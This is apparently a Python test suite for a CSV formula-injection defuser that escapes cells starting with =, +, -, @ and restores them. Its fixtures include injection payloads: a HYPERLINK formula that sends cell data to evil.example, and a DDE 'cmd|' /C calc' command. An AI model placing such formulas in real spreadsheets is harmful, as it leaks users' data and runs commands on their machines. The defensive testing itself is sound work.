"""I13: what a spreadsheet would run is defused, comes back as it was, and numbers stay numbers."""

import csv
import io
import re

import polars as pl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from shared import cells

NASTY = st.text(st.sampled_from("=+-@＝＋－＠'\",;|\t\r\n\0 .()e%05aü"), max_size=12)
TEXTS = NASTY | st.text(max_size=20) | st.from_regex(r"[+-][0-9 .,()]{1,12}", fullmatch=True)
PLAIN = re.compile(r"[+-][0-9 .,()eE%+-]+")


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example?x="&A1,"Click")', "'=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")"),
        ("@SUM(1+9)", "'@SUM(1+9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("＝1", "'＝1"),
        ("Shop;=1+1", "Shop;'=1+1"),
        ('Shop;"=1+1', "Shop;\"'=1+1"),
        ("one\n=1+1", "one\n'=1+1"),
        ("a,-5", "a,'-5"),
        ("'=1", "''=1"),
        ("'-5", "''-5"),
        ("+1-202-555-0143", "'+1-202-555-0143"),
        ("-", "'-"),
        ("-1,cmd", "'-1,cmd"),
    ],
)  # fmt: skip
def test_formula_when_written_is_text(text, written):
    assert cells.defuse(text) == written
    assert cells.restore(written) == text


@pytest.mark.parametrize(
    "text",
    [
        *("-5", "+5", "-1.234,56", "-1,234.56", "-12 345", "-.5", "-1e-7", "+3.5E+10", "-12%"),
        *("+33 1 42 68 53 00", "+33142685300", "+49 (0)30 901820", "+44(0)20.7946.0018", "+1 (202) 555 0143"),
        *("O'Neil", "'s-Hertogenbosch", "a=b", "a - b", "x@y.example", "rock 'n' roll", "", "5", "5-3", "a; =b"),
    ],
)
def test_number_phone_or_word_when_written_stays(text):
    assert cells.defuse(text) == text
    assert cells.restore(text) == text


@settings(max_examples=1000)
@given(TEXTS)
@example("'\t=x")
@example("\"'=")
def test_any_text_when_defused_and_restored_is_the_same(text):
    assert cells.restore(cells.defuse(text)) == text
    assert cells.restore(cells.defuse(cells.defuse(text))) == cells.defuse(text)


@settings(max_examples=1000)
@given(TEXTS, st.sampled_from(",;|\t"))
def test_no_part_of_a_defused_text_begins_a_formula_by_any_delimiter(text, delimiter):
    written = cells.defuse(text)
    if written == text and PLAIN.fullmatch(text):
        return
    for part in re.split(f"[{delimiter}\r\n]", written):
        assert part.lstrip('"')[:1] not in set("=+-@＝＋－＠")
    assert written[:1] not in set("\t\r\n\0")


@settings(max_examples=500)
@given(st.lists(st.none() | TEXTS, min_size=1, max_size=8))
def test_frame_when_defused_or_restored_is_as_its_cells_are(texts):
    frame = pl.DataFrame({"a": pl.Series(texts, dtype=pl.String), "n": range(len(texts)), "b": ["x"] * len(texts)})
    for whole, one in ((cells.defuse_frame, cells.defuse), (cells.restore_frame, cells.restore)):
        made = whole(frame)
        assert made["a"].to_list() == [text if text is None else one(text) for text in texts]
        assert made.drop("a").equals(frame.drop("a"))


@settings(max_examples=1500)
@given(st.lists(st.none() | TEXTS, min_size=1, max_size=4), st.sampled_from(",;|\t"))
@example(["a,+5,b"], ",")
@example(["+5;", "-1 2"], ",")
@example(["\tx"], "\t")
@example(["x,+1 2-3", "+1 2-3"], ",")
@example(["+1-2", "+3-4", "+5-+6"], ";")
@example(["a", "+1-2\n+3-4"], "|")
def test_line_when_not_taken_apart_is_defused_as_its_cells_are(texts, delimiter):
    """Accept-only: a line that is not surely known is taken apart instead."""
    cells_of = [None if text is None else text.replace("\0", "") for text in texts]
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerow(cells_of)  # so that CR is quoted, too
    line = out.getvalue().removesuffix("\r\n") + "\n"
    defused = cells.defuse_lines(pl.Series([line]), delimiter)[0]
    if defused is not None:
        [found] = csv.reader(io.StringIO(defused, newline=""), delimiter=delimiter)
        assert found == [cells.defuse(text or "") for text in cells_of]


@pytest.mark.parametrize("delimiter", [*",;|\t"])
def test_line_when_it_holds_numbers_and_phones_is_safe(delimiter):
    """Most lines must be, or they are taken apart for nothing."""
    words = ["C1", "+33 1 42 68 53 00", "+44 (0)20 7946 0018", "-5", "a=b", "O'Neil", "x@y.example", "", "a; b", "a|b"]
    words += ['"Smith, ""Bob"" & Co; Ltd"', '"one\n\ntwo"', '"-1.234,56"', '""', "gold;silver", "+33142685300\n"]
    line = delimiter.join(word for word in words if delimiter not in word or word.startswith('"'))
    assert cells.defuse_lines(pl.Series([line]), delimiter)[0] == line


@pytest.mark.parametrize("delimiter", [*",;|\t"])
def test_line_when_it_holds_phones_with_hyphens_is_defused_at_once(delimiter):
    words = ["C1", "+1 269-365-5975", "+1-269-365", '"Smith, ""Bob"" & Co; Ltd"', "+44 (0)20-7946-0018", ""]
    line = delimiter.join(words) + "\n"
    safe = delimiter.join(f"'{word}" if word.startswith("+") else word for word in words) + "\n"
    assert cells.defuse_lines(pl.Series([line]), delimiter)[0] == safe


@settings(max_examples=300)
@given(st.lists(NASTY, min_size=2, max_size=4))
def test_written_line_when_read_by_another_delimiter_holds_no_formula(texts):
    """The whole line, with its quotes: not even a cell that was torn apart begins with a sign."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerow([cells.defuse(text) for text in texts])
    plain = {text for text in texts if PLAIN.fullmatch(text)}
    for delimiter in ";|\t":
        for part in re.split(f"[{delimiter}\r\n]", out.getvalue()):
            if not any(part.startswith(number) for number in plain):
                assert part.lstrip('"')[:1] not in set("=+-@＝＋－＠")
